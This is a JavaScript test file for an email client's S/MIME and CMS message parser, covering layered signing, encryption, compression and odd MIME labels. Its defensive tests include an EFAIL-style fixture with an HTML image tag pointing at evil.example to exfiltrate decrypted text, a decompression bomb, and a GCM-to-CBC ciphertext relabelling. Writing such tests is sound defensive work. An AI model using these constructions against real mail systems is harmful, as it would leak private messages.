import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseBer } from '../../../static/js/cms/ber.js';
import { buildEnveloped } from '../../../static/js/cms/enveloped.js';
import { CONTENT_TYPE } from '../../../static/js/cms/oids.js';
import { buildCertificatesOnly } from '../../../static/js/cms/signed.js';
import { encodeBase64 } from '../../../static/js/mime/transfer.js';
import { openssl, put } from '../cms/openssl.js';
import { alice, bob, mallory, sign } from './people.js';
import { OUTER, TEXT, bytes, carrying, compressed, detached, encrypted, lines, message, multipart, opaque, open, seen, signaturePart } from './messages.js';

const SIGNED = 'S1b headers-unprotected clear: bonjour';
const BOTH = 'S1b headers-unprotected encrypted: bonjour';
const SECRET = 'S5 sender-not-proved encrypted: bonjour';

/** @type {Record<string, [string, () => Promise<Uint8Array>]>} */
const ENVELOPES = {
  'opaque': [SIGNED, async () => carrying(await opaque(TEXT))],
  'detached': [SIGNED, async () => detached(TEXT)],
  'detached in opaque': [SIGNED, async () => carrying(await opaque(await detached(TEXT)))],
  'encrypted': [SECRET, async () => carrying(await encrypted(TEXT))],
  'signed, then encrypted': [BOTH, async () => carrying(await encrypted(await detached(TEXT)))],
  'opaque, then encrypted': [BOTH, async () => carrying(await encrypted(carrying(await opaque(TEXT))))],
  'a bare CMS encrypted': [BOTH, async () => carrying(await encrypted(await opaque(TEXT)))],
  'triple wrapped': [BOTH, async () => detached(carrying(await encrypted(await detached(TEXT))))],
  'triple wrapped, opaque': [BOTH, async () => carrying(await opaque(carrying(await encrypted(carrying(await opaque(TEXT))))))],
  'encrypted, then signed': [SECRET, async () => detached(carrying(await encrypted(TEXT)))],
  'compressed': ['S5 unsigned clear: bonjour', async () => carrying(compressed(TEXT))],
  'compressed, signed, encrypted': [BOTH, async () => carrying(await encrypted(carrying(await opaque(carrying(compressed(TEXT))))))],
  'signed, compressed, encrypted': [BOTH, async () => carrying(await encrypted(carrying(compressed(await detached(TEXT)))))],
  'signed, encrypted, compressed': [BOTH, async () => carrying(compressed(carrying(await encrypted(await detached(TEXT)))))],
};
for (const [name, [expected, make]] of Object.entries(ENVELOPES)) {
  test(`reads what is ${name}`, async () => {
    const opened = await open(message(await make()));
    assert.equal(seen(opened), expected);
    assert.deepEqual(opened.attachments, []);
  });
}

const B64 = 'Content-Transfer-Encoding: base64';
/** @type {Record<string, (cms: Uint8Array) => Uint8Array>} what gateways and old programs make of the labels of a CMS */
const LABELS = {
  'x-pkcs7-mime': (cms) => carrying(cms, ['Content-Type: application/x-pkcs7-mime', B64]),
  'octet-stream with a name': (cms) => carrying(cms, ['Content-Type: application/octet-stream; name="smime.p7m"', B64]),
  'octet-stream without one': (cms) => carrying(cms, ['Content-Type: application/octet-stream', B64]),
  'the wrong smime-type': (cms) => carrying(cms, ['Content-Type: application/pkcs7-mime; smime-type=certs-only', B64]),
  'the type of a signature': (cms) => carrying(cms, ['Content-Type: application/pkcs7-signature; name=smime.p7s', B64]),
  'text/plain in base64': (cms) => carrying(cms, ['Content-Type: text/plain', B64]),
  'text without an encoding': (cms) => carrying(cms, ['Content-Type: text/plain']),
  'no type at all': (cms) => carrying(cms, [B64]),
  'base64 twice': (cms) => lines('Content-Type: application/pkcs7-mime', B64, '', encodeBase64(encodeBase64(cms))),
  'no encoding named': (cms) => carrying(cms, ['Content-Type: application/pkcs7-mime']),
  'PEM': (cms) => lines('Content-Type: application/pkcs7-mime', '', '-----BEGIN CMS-----', encodeBase64(cms), '-----END CMS-----'),
  'binary': (cms) => lines('Content-Type: application/pkcs7-mime', 'Content-Transfer-Encoding: binary', '', cms),
  'binary called base64': (cms) => lines('Content-Type: application/pkcs7-mime', B64, '', cms),
  'quoted-printable': (cms) => lines('Content-Type: application/pkcs7-mime', 'Content-Transfer-Encoding: quoted-printable', '',
    [...cms].map((octet) => `=${octet.toString(16).padStart(2, '0').toUpperCase()}`).join('').replace(/(.{72})/g, '$1=\r\n')),
  'an attachment beside empty text': (cms) => multipart('mixed', 'Content-Type: text/plain\r\n\r\n \r\n', carrying(cms, ['Content-Type: application/octet-stream; name=a.p7m', B64])),
  'an attachment beside empty HTML': (cms) => multipart('mixed', 'Content-Type: text/html\r\n\r\n<html><body><br></body></html>', carrying(cms)),
  'an attachment in two multiparts': (cms) => multipart('mixed', multipart('mixed', carrying(cms))),
  'AppleDouble': (cms) => multipart('mixed', multipart('appledouble', 'Content-Type: application/applefile; name="smime.p7m"\r\n\r\nfork',
    carrying(cms, ['Content-Type: application/pkcs7-mime; name="smime.p7m"', B64]))),
  'a multipart that is itself in base64': (cms) => {
    const [head, ...rest] = new TextDecoder().decode(multipart('mixed', carrying(cms))).split('\r\n\r\n');
    return lines(head, B64, '', encodeBase64(bytes(rest.join('\r\n\r\n'))));
  },
};
for (const [name, label] of Object.entries(LABELS)) {
  test(`reads a CMS labelled as ${name} [DN5] [AP7]`, async () => {
    const opened = await open(message(label(await encrypted(await detached(TEXT)))));
    assert.equal(seen(opened), BOTH);
    assert.deepEqual(opened.attachments, []);
  });
}

test('reads a SignedData that stands in an EnvelopedData without MIME', async () => {
  const { raw } = parseBer(await opaque(TEXT)).children[1].only();
  const recipients = [{ certificate: bob.certificate }];
  const cms = await buildEnveloped({ content: raw, contentType: CONTENT_TYPE.signedData, contentAlgorithm: 'aes-256-cbc', recipients });
  assert.equal(seen(await open(message(carrying(cms)))), BOTH);
  const noise = await buildEnveloped({ content: raw.subarray(4), contentType: CONTENT_TYPE.signedData, contentAlgorithm: 'aes-256-cbc', recipients });
  assert.equal(seen(await open(message(carrying(noise)))), 'decrypt-failed');
});

test('reads BER of indefinite length [DN5] [AP7]', async () => {
  put('entity', await detached(TEXT));
  const cms = new Uint8Array(openssl(['cms', '-encrypt', '-binary', '-stream', '-aes-128-cbc', '-in', 'entity', '-outform', 'DER', 'bob.pem']));
  assert.deepEqual([...cms.subarray(0, 2)], [0x30, 0x80]);
  assert.equal(seen(await open(message(carrying(cms)))), BOTH);
});

test('reads a detached signature whose parts changed places or lost their labels', async () => {
  const signature = await sign(bytes(TEXT), alice);
  const named = 'Content-Type: application/octet-stream; name=smime.p7s';
  const binary = lines('Content-Type: application/x-pkcs7-signature', B64, '', signature);
  for (const entity of [
    multipart('signed', signaturePart(signature), TEXT), multipart('mixed', TEXT, signaturePart(signature)),
    multipart('signed', TEXT, signaturePart(signature, named)), multipart('mixed', TEXT, signaturePart(signature, named)), multipart('signed', TEXT, binary),
  ]) {
    const opened = await open(message(entity));
    assert.equal(seen(opened), SIGNED);
    assert.deepEqual(opened.attachments, []);
  }
});

test('a signature that encloses another content than the one beside it covers nothing that is shown', async () => {
  for (const kind of ['signed', 'mixed']) {
    const opened = await open(message(multipart(kind, TEXT, signaturePart(await opaque('Content-Type: text/plain\r\n\r\nsomething else')))));
    assert.deepEqual([opened.signature.state, opened.signature.intact, opened.text.trim()], ['S5', false, 'bonjour']);
  }
  const same = await open(message(multipart('signed', TEXT, signaturePart(await opaque(TEXT)))));
  assert.equal(seen(same), SIGNED);
});

test('a file of signature beside a text that it does not sign is a file', async () => {
  const foreign = await sign(bytes('something else'), alice);
  const opened = await open(message(multipart('mixed', TEXT, signaturePart(foreign))));
  assert.equal(seen(opened), 'S5 unsigned clear: bonjour');
  assert.deepEqual(opened.attachments.map(({ filename, opens }) => [filename, opens]), [['smime.p7s', null]]);
  const inside = await open(message(carrying(await encrypted(multipart('mixed', TEXT, signaturePart(foreign))))));
  assert.equal(seen(inside), SECRET);
  assert.deepEqual(inside.attachments.map(({ filename }) => filename), ['smime.p7s']);
});

test('signatures of other kinds are read as parts, unsigned', async () => {
  const pgp = 'Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n-----BEGIN PGP SIGNATURE-----';
  const opened = await open(message(multipart('signed; protocol="application/pgp-signature"', TEXT, pgp)));
  assert.equal(seen(opened), 'S5 unsigned clear: bonjour');
  assert.deepEqual(opened.attachments.map(({ filename }) => filename), ['signature.asc']);
  const three = await open(message(multipart('signed', TEXT, signaturePart(await sign(bytes(TEXT), alice)), 'Content-Type: text/plain\r\n\r\nfooter')));
  assert.deepEqual([three.signature.state, three.text.trim()], ['S5', 'bonjour\nfooter']);
});

test('a CMS that is not at the root is opened separately or not at all [N34] [N35]', async () => {
  const clear = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?';
  const end = 'Content-Type: text/html\r\n\r\n">';
  const signed = lines(...OUTER, await detached('Content-Type: text/plain\r\n\r\nsigned elsewhere'));
  /** @type {[Uint8Array, string | null][]} */
  const errant = [
    [carrying(await encrypted(TEXT)), 'cms'], [await detached(TEXT), 'cms'], [carrying(await opaque(TEXT)), 'cms'],
    [carrying(await encrypted(TEXT), ['Content-Type: application/octet-stream; name=smime.p7m', B64]), 'cms'],
    [lines('Content-Type: message/rfc822', '', signed), 'message'],
    [lines('Content-Type: application/octet-stream; name=lettre.eml', '', signed), 'message'],
    [signaturePart(await sign(bytes(TEXT), alice)), null],
  ];
  for (const [part, opens] of errant) {
    const opened = await open(message(multipart('mixed', clear, part, end)));
    assert.deepEqual([opened.signature.state, opened.signature.reason, opened.encrypted], ['S5', 'unsigned', false]);
    assert.deepEqual(opened.attachments.map((each) => each.opens), [opens]);
    assert.ok(!`${opened.text}${opened.html}`.includes('bonjour'));
    if (!opens) continue;
    const [{ bytes: inner }] = opened.attachments;
    const apart = await open(inner);
    assert.ok(apart.text.includes('bonjour') || apart.text.includes('signed elsewhere'));
  }
});

test('an errant layer opened by itself has a state of its own', async () => {
  const protectedInside = await detached('From: alice@pli.example\r\nTo: bob@pli.example\r\nSubject: S\r\nDate: Sat, 21 Nov 2026 22:00:00 +0000\r\nContent-Type: text/plain; hp="clear"\r\n\r\nx');
  const apart = await open(protectedInside);
  assert.deepEqual([apart.signature.state, apart.signature.reason, apart.subject, apart.notices], ['S1b', 'no-card', 'S', []]);
  const bare = await open(await opaque(TEXT));
  assert.deepEqual([bare.signature.state, bare.signature.signer?.address, bare.notices], ['S3', 'alice@pli.example', ['headers-unprotected']]);
});

test('more layers than two, or three around ciphertext, are attachments', async () => {
  const three = await open(message(carrying(await opaque(carrying(await opaque(carrying(await opaque(TEXT))))))));
  assert.deepEqual([three.text, three.attachments.map(({ opens }) => opens)], ['', ['cms']]);
  const four = await open(message(await detached(carrying(await encrypted(await detached(carrying(await opaque(TEXT))))))));
  assert.deepEqual([four.text, four.attachments.map(({ opens }) => opens)], ['', ['cms']]);
  const bombs = carrying(compressed(carrying(compressed(carrying(compressed(TEXT))))));
  assert.deepEqual((await open(message(bombs))).attachments.map(({ opens }) => opens), ['cms']);
});

test('a compressed bomb is a quarantined message', async () => {
  const bomb = compressed(new Uint8Array(20_000_000));
  assert.equal(seen(await open(message(carrying(bomb)))), 'limit-exceeded');
  assert.equal(seen(await open(message(carrying(await encrypted(carrying(bomb), 'aes-256-cbc'))))), 'decrypt-failed');
});

test('a message that only sends certificates says so and proposes them', async () => {
  const cms = buildCertificatesOnly([bob.certificate.der, alice.certificate.der]);
  const opened = await open(message(carrying(cms, ['Content-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c', B64])));
  assert.deepEqual([opened.signature.state, opened.notices, opened.attachments, opened.text], ['S5', ['certificates-only'], [], '']);
  assert.deepEqual([opened.harvest?.address, opened.harvest?.proved], ['alice@pli.example', false]);
  assert.deepEqual([...(opened.harvest?.certificate ?? [])], [...alice.certificate.der]);
  const foreign = await open(message(carrying(buildCertificatesOnly([mallory.certificate.der]))));
  assert.equal(foreign.harvest?.address, 'mallory@pli.example');
  assert.equal((await open(message(carrying(buildCertificatesOnly([]))))).harvest, null);
});

test('ciphertext that was relabelled from GCM to CBC never shows what it holds [N25]', async () => {
  const cms = await encrypted(TEXT, 'aes-256-gcm');
  const relabelled = Buffer.from(cms).toString('hex').replace('060960864801650304012e', '060960864801650304012a');
  const opened = await open(message(carrying(new Uint8Array(Buffer.from(relabelled, 'hex')))));
  assert.ok(opened.quarantined);
  assert.equal(opened.text, '');
});
